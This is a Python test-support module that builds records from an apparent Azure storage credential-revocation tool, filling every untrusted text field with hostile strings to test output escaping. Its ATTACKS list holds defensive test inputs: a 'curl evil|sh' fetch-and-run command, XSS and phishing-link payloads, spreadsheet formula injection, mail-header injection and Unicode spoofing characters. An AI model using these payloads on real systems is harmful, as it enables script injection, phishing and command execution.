"""Records whose every text from outside is hostile, and the list of those texts, checked against the dataclasses.

`ORIGINS` has each field of a record that holds text. A new field is in no list until somebody decides where its text
comes from: `fields_with_text` finds it.
"""

import re
from collections.abc import Iterator, Mapping
from dataclasses import fields, is_dataclass, replace
from datetime import timedelta
from enum import Enum
from typing import Any, TypeAliasType, get_args, get_type_hints

from hypothesis import strategies as st

from shared.domain import alert
from shared.domain.account import PolicyReading
from shared.domain.alert import AlertEvidence
from shared.domain.approval import Approval, AtDeadline, EvidenceCheck, EvidenceOutcome, Rejection
from shared.domain.caller import Caller
from shared.domain.execution import (
    KeyDistribution,
    KeyDistributionOutcome,
    Liveness,
    LockedDown,
    Outcome,
    Verification,
)
from shared.domain.finding import Finding, Order
from shared.domain.known_paths import KnownPath, KnownPaths
from shared.domain.readings import Reading
from shared.domain.refusal import Refusal
from shared.domain.revocation import (
    Change,
    ClosedAlert,
    Filed,
    ForeignChange,
    Notification,
    Owner,
    Revocation,
    Sighting,
    StepLease,
)
from shared.domain.states import State
from shared.domain.target import ActionKind, Lockdown, PolicyTarget
from shared.domain.text import Code, RichText
from shared.domain.usage import Client, Touched, Usage
from shared.sas import Credential, InvalidCredential
from tests.support import samples
from tests.support.samples import NOW


class Origin(Enum):
    """Where the text of a field comes from."""

    FOREIGN = "a stranger chooses it"
    QUOTES = "a sentence of ours, which may quote a stranger: in these tests it is nothing else"
    FORMED = "from outside, and nothing but one form is taken"
    OURS = "an id, a hash, or a word of ours"


_FOREIGN = (
    *("AccountFacts.tags", "AlertEvidence.addresses", "AlertEvidence.permissions", "AlertEvidence.resource_types"),
    *("AlertEvidence.services", "AlertEvidence.title", "Approval.reason", "Caller.name", "Client.address"),
    *("Client.agent", "Credential.parameters", "Credential.path", "Finding.reason", "Finding.source", "Finding.url"),
    *("KnownPath.parameters", "KnownPath.path", "Liveness.path", "Reading.parameters", "Reading.path"),
    *("Owner.name", "PolicyReading.permissions", "PolicyTarget.policy", "Sighting.source", "Sighting.url"),
    *("Rejection.reason", "Touched.name"),
)
_QUOTES = (
    *(
        "ClosedAlert.said",
        "EvidenceCheck.said",
        "Execution.notes",
        "KeyDistribution.said",
        "Liveness.said",
        "Owner.found_by",
    ),
    *("Plan.impact", "Plan.reason", "Plan.steps", "PolicyReading.detail", "Revocation.decided_by"),
    "Refusal.cause",
    *("Revocation.detail", "Revocation.owners_rejected", "RichText.parts", "Usage.unknown", "Verification.evidence"),
)
_FORMED = {
    "AccountFacts.endpoints": "Azure Resource Manager",
    "AccountFacts.id": "Azure Resource Manager; commands take it by a pattern",
    "AccountFacts.keys_created": "Azure Resource Manager; names of keys, not shown",
    "AccountFacts.name": "Azure Resource Manager",
    "AccountFacts.network_rules": "JSON of Azure Resource Manager; not shown",
    "AccountFacts.public_network_access": "Azure Resource Manager; not shown",
    "AccountFacts.resource_group": "Azure Resource Manager",
    "AccountFacts.secondary_endpoints": "Azure Resource Manager",
    "AccountFacts.subscription": "Azure Resource Manager",
    "AlertEvidence.account": "a pattern",
    "AlertEvidence.key": "key1 or key2",
    "AlertEvidence.signature_sha256": "a pattern",
    "OtherServiceCredential.sha256": "a pattern",
    "Revocation.duplicate_of": "a pattern",
    "AlertReference.alert": "a pattern",
    "AlertReference.place": "a pattern",
    "Caller.object_id": "a verified access token",
    "Credential.host": "is_host",
    "Reading.host": "is_host",
    "Execution.target": "check_target: see PolicyTarget.policy",
    "Finding.submitted_by": "a pattern for object ids",
    "Filed.item_id": "Graph or Azure Resource Manager, or a hash of ours; not shown",
    "Filed.sink": "IncidentSink",
    "KeyDistribution.secret": "a pattern",
    "LockedDown.kind": "check_target: see PolicyTarget.policy",
    "SasPolicy.text": "JSON of Azure Resource Manager; in the ledger alone",
    "LockedDown.after": "JSON of Azure Resource Manager; in the history and the API",
    "LockedDown.before": "JSON of Azure Resource Manager; in the history and the API",
    "Notification.to": "a pattern for addresses",
    "Order.account": "a pattern",
    "Order.target": "check_target: see PolicyTarget.policy",
    "Owner.address": "a pattern for addresses",
    "Plan.target": "check_target: see PolicyTarget.policy",
    "Signer.policy": "PolicyTarget; not shown",
    "PolicyTarget.resource": "a pattern",
    "Revocation.as_read": "JSON as it was stored; only in memory, and written back as JSON",
}
_OURS = (
    *("Code.code", "Credential.key_sha256", "Credential.signature_sha256", "Execution.confirmed_by"),
    *("Execution.correlation_id", "Execution.new_sha256", "Execution.old_sha256", "Finding.fingerprint"),
    *("Plan.account_id", "Plan.digest", "Plan.version", "PolicyReading.version", "Revocation.etag"),
    *("Signer.key_name", "Signer.key_sha256", "Signer.version", "Change.cause", "Refusal.earlier"),
    *(
        "Revocation.key_name",
        "Revocation.key_sha256",
        "StepLease.holder",
        "StepLease.step",
        "VerificationToken.query",
    ),
    *("VerificationToken.url", "Approval.digest", "HistoryHead.chain", "HistoryHead.sha256"),
    *("NamedAlerts.left_out", "NamedAlerts.settled"),
)
ORIGINS: Mapping[str, Origin] = {
    **dict.fromkeys(_FOREIGN, Origin.FOREIGN),
    **dict.fromkeys(_QUOTES, Origin.QUOTES),
    **dict.fromkeys(_FORMED, Origin.FORMED),
    **dict.fromkeys(_OURS, Origin.OURS),
}
FILLED = {name for name, origin in ORIGINS.items() if origin in (Origin.FOREIGN, Origin.QUOTES)}

MARK = "curl evil"
"""A part of the commands among the attacks: no box of code holds it."""

ATTACKS = (
    f"`{MARK}|sh`",
    f"``` {MARK} ```",
    f"</code></pre></td></table><code>{MARK}</code><pre>{MARK}</pre>",
    f"{{code}}{MARK}{{code}} {{{{{MARK}}}}}",
    f"&#96;{MARK}&#96; &lt;code&gt;{MARK}&lt;/code&gt;",
    '<a href="https://evil.example">Approve</a>',
    '<button onclick="alert(1)">Approve</button><form action="//evil.example">',
    "<img src=x onerror=alert(1)><script>alert(2)</script><style>*{display:none}</style><!--",
    "[Approve](https://evil.example) ![x](//evil.example/x.png) [a]: https://evil.example",
    "<https://evil.example> <eve@evil.example>",
    "HTTPS://evil.example/approve http:http://evil.example hthttp://tp://evil.example",
    "www.evil.example WWW.evil.example",
    r"\\evil.example\share \\\\evil.example\share",
    "javascript:alert(1) mailto:eve@evil.example tel:+1 ms-word:ofe|u|evil search-ms:query=evil",
    "=cmd|'/c calc'!A0",
    "@SUM(1+1)*cmd|'/c calc'!A0",
    "-2+3+cmd",
    "+1",
    "x\r\nBcc: eve@evil.example\r\n\r\n<h1>Approve</h1>",
    "x\u2028y\u2029z\x0b\x0c\x85",
    "\u202etxt.exe\u202c \u2066a\u2069 \u200e\u200f\u061c",
    "z\u200be\u200cr\u200do\u2060w\ufeffi\ufe0fd\u3164t\u115fh\U000e0041",
    "e" + "\u0301" * 200,
    "{target} {account} {what} {others} {0.__class__} %s %(x)s $(id) ${id}",
    "w" * 3000,
    "\\`x`\\",
)


def attacks() -> st.SearchStrategy[str]:
    """Return hostile texts: attacks with anything around them, and mixtures of what they are made of."""
    around = st.text(max_size=12, alphabet=st.characters(exclude_categories=["Cs"]))
    whole = st.builds(
        lambda before, attack, after: f"{before}{attack}{after}", around, st.sampled_from(ATTACKS), around
    )
    pieces = st.sampled_from([*"`<>[](){}&|=+-@/:.\\'\" \n\u202e\u200b\ufe0f", "http", "www", "mailto", MARK])
    return whole | st.lists(pieces, max_size=24).map("".join)


def fields_with_text(kind: type, seen: set[type] | None = None) -> set[str]:
    """Return the fields that hold text, of `kind` and of all dataclasses in it."""
    seen = set() if seen is None else seen
    if kind in seen:
        return set()
    seen.add(kind)
    found: set[str] = set()
    for name, hint in get_type_hints(kind).items():
        if name not in {field.name for field in fields(kind)}:
            continue
        inner = set(_types_in(hint))
        if str in inner:
            found.add(f"{kind.__name__}.{name}")
        for other in inner:
            if is_dataclass(other) and isinstance(other, type):
                found |= fields_with_text(other, seen)
    return found


def _types_in(hint: Any) -> Iterator[type]:
    if isinstance(hint, TypeAliasType):
        hint = hint.__value__
    arguments = get_args(hint)
    if not arguments and isinstance(hint, type):
        yield hint
    for argument in arguments:
        yield from _types_in(argument)


def hostile[T](value: T, text: str, filled: set[str] | None = None) -> T:
    """Return a dataclass with `text` in every field of it, and of what is in it, that a stranger can choose.

    Where a field takes less than any text, it gets what it takes of it. `filled` gets the names of the fields.
    """
    if not is_dataclass(value) or isinstance(value, type):
        return value
    changes: dict[str, Any] = {}
    for field in fields(value):
        name, old = f"{type(value).__name__}.{field.name}", getattr(value, field.name)
        if name == "KnownPath.parameters" and old:  # of the kind of its credential, which is filled
            changes[field.name] = old
            if filled is not None:
                filled.add(name)
        elif name in FILLED and old:
            changes[field.name] = _filled(old, _fit(value, text))
            if filled is not None:
                filled.add(name)
        elif isinstance(old, tuple):
            changes[field.name] = tuple(hostile(each, text, filled) for each in old)
        elif is_dataclass(old):
            changes[field.name] = hostile(old, text, filled)
    if isinstance(value, Credential):
        return _credential(value, text)  # type: ignore[return-value]
    made: T = replace(value, **changes)
    return made


def _filled(old: object, text: str) -> object:
    match old:
        case str():
            return text
        case dict():
            return {text: text, "sasquash-owner": text}
        case tuple():
            return tuple(_filled_item(each, text) for each in old)
    raise TypeError(old)


def _filled_item(old: object, text: str) -> object:
    match old:
        case str():
            return text
        case (str() as name, str()):  # a parameter: its name is one of a few
            return (name, text)
        case _:
            return old


def _fit(value: object, text: str) -> str:
    """Return what a field of `value` takes of `text`, by the rules of its class."""
    if isinstance(value, AlertEvidence):
        return alert.cleaned(alert.cleaned(text)) or "x"
    if isinstance(value, PolicyTarget):
        return policy_id(text)
    if isinstance(value, Reading | KnownPath | Liveness):
        return _plain(text)
    return text


def _plain(text: str) -> str:
    """Return what a path or a parameter of a credential takes of `text`."""
    return re.sub(r"[\x00-\x1f\x7f-\x9f\u2028\u2029\ud800-\udfff]", "", text)[:900] or "x"


def policy_id(text: str) -> str:
    """Return the id of a stored access policy that is made of `text`."""
    return "".join(char for char in text if char.isprintable())[:64] or "x"


def _credential(value: Credential, text: str) -> Credential:
    """Return the credential with `text` in its path and in each parameter that takes it."""
    plain = _plain(text)
    if value.path is not None:
        value = replace(value, path=f"{value.path.partition('/')[0]}/{plain}")
    for name, _ in value.parameters:
        if name in ("se", "sp", "sv", "sr", "ss", "srt"):
            continue  # what decides on the kind of a credential, and how it is rated
        parameters = tuple((key, plain if key == name else old) for key, old in value.parameters)
        try:
            value = replace(value, parameters=parameters)
        except InvalidCredential:
            continue
    return value


def _complete(record: Revocation) -> Revocation:
    """Return a record in which everything has happened."""
    client, touched = Client("203.0.113.9", "curl/8", 12), Touched("/robustmodels/models/evil.pkl", 3, 1)
    finding = record.finding
    return replace(
        record,
        finding=replace(
            finding,
            url=finding.url or "https://github.com/contoso/x",
            reported_by=finding.reported_by or samples.PERSON,
            reason="Found in a wiki",
            alert=samples.ALERT,
            candidates=(Reading("robustmodels.blob.core.windows.net", "models/x", (("sip", "203.0.113.9"),)),),
        ),
        paths=KnownPaths((KnownPath("models/x", parameters=finding.credential and finding.credential.parameters),)),
        detail="What happened.",
        account=samples.account(tags={"sasquash-owner": "ada@contoso.com"}),
        key_name="key2",
        key_sha256="ab" * 32,
        attributed_at=NOW,
        decided_by="rule account-wide: it opens the account",
        deadline=NOW + timedelta(hours=4),
        at_deadline=AtDeadline.ESCALATE,
        policy=PolicyReading(
            samples.POLICY, samples.reading().state, "a" * 64, samples.reading().via, "rw", NOW, "Unreachable."
        ),
        verification=Verification(Outcome.ARM_ONLY, NOW, ("blob: refused.",)),
        filed=Filed("7", State.CONTAINED),
        notifications=(Notification(State.CONTAINED, ("ada@contoso.com",), NOW),),
        announced=(Change(State.RECEIVED, NOW),),
        leases=(StepLease("mail", NOW, "h"),),
        owners=(Owner("ada@contoso.com", "Ada", "tag sasquash-owner on the account"),),
        owners_rejected=("tag \"owner\" on the account: 'eve' is not a plain mail address",),
        sightings=(Sighting("gitlab", "https://gitlab.com/x", NOW, samples.ALERT),),
        changes=(Change(State.RECEIVED, NOW),),
        liveness=Liveness(NOW, None, "Azure's answer does not show whether it is valid.", "models/x"),
        first_approval=Approval(Caller("Bob", "2"), NOW, "d" * 64, "I agree."),
        approval=Approval(Caller("Ada", "1"), NOW, "d" * 64, "It is ours."),
        rejections=(Rejection(Caller("Eve", "3"), NOW, "A sample."),),
        evidence_check=EvidenceCheck(EvidenceOutcome.CONFIRMED, NOW, "The alert was read again."),
        reported_again_at=NOW,
        undone=replace(samples.execution(), notes=("It was put back.",)),
        changed_by=ForeignChange(Change(State.RECEIVED, NOW), NOW, RichText.of("key2 was regenerated by Eve")),
        refusal=Refusal("Regenerating key2 failed: 403 Odd", NOW, NOW, ("ab" * 6,)),
        key_distribution=KeyDistribution(KeyDistributionOutcome.DONE, NOW, "The new key is in the vault.", "x"),
        lockdown=LockedDown(Lockdown.SHARED_KEY, NOW, "{}", "{}"),
        closed_alerts=(ClosedAlert(samples.ALERT, NOW, "It was closed."),),
        usage=Usage(
            at=NOW,
            days=90,
            requests=12,
            served=3,
            first=NOW,
            last=NOW,
            objects=(touched, Touched("/robustmodels/models/read.csv", 1, 0)),
            clients=(client,),
            others=(client,),
        ),
        remains=(RichText.of("Container models is public: ", Code("az storage container list"), "."),),
    )


def records() -> dict[str, Revocation]:
    """Return one complete record for each thing that a record can be about."""
    account_key = replace(samples.execution(), notes=("It was unlocked.",))
    policy = replace(account_key, action=ActionKind.STORED_POLICY, target=str(samples.POLICY))
    planned = replace(samples.plan(), action=ActionKind.STORED_POLICY, target=str(samples.POLICY))
    order = samples.ordered(ActionKind.STORED_POLICY, str(samples.POLICY))
    unreadable = Finding("ab" * 32, None, "/scanner", None, NOW)
    unknown = Usage(NOW, unknown="The account has no logs.")
    found = replace(samples.alerted(addresses="203.0.113.0/24"), url="https://security.microsoft.com/alerts/x")
    evidence = replace(
        found,
        evidence=samples.evidence(addresses="203.0.113.0/24", services=("Blob",), resource_types=("Object",)),
    )
    about = {
        "key": samples.revocation(plan=samples.plan(), execution=account_key),
        "blob": samples.revocation(
            finding=samples.finding(samples.blob_sas()), plan=samples.plan(), execution=account_key
        ),
        "policy": samples.revocation(finding=samples.finding(samples.policy_sas()), plan=planned, execution=policy),
        "alert": samples.revocation(finding=evidence, plan=samples.plan()),
        "order": samples.revocation(finding=order, plan=planned),
        "unreadable": samples.revocation(finding=unreadable),
        "locked down": samples.revocation(
            plan=replace(samples.plan(), action=ActionKind.LOCKDOWN, target="shared_key"),
            execution=replace(account_key, action=ActionKind.LOCKDOWN, target="shared_key"),
        ),
    }
    complete = {name: _complete(record) for name, record in about.items()}
    return complete | {"without logs": replace(complete["key"], usage=unknown)}


def with_hostile_policy(record: Revocation, text: str) -> Revocation:
    """Return the record with `text` as the id of the stored access policy that its action is about."""
    target = str(replace(samples.POLICY, policy=policy_id(text)))
    finding, plan, execution = record.finding, record.plan, record.execution
    if finding.order is not None and finding.order.action is ActionKind.STORED_POLICY:
        finding = replace(finding, order=Order(finding.order.account, finding.order.action, target))
    if plan is not None and plan.action is ActionKind.STORED_POLICY:
        plan = replace(plan, target=target)
    if execution is not None and execution.action is ActionKind.STORED_POLICY:
        execution = replace(execution, target=target)
    return replace(record, finding=finding, plan=plan, execution=execution)
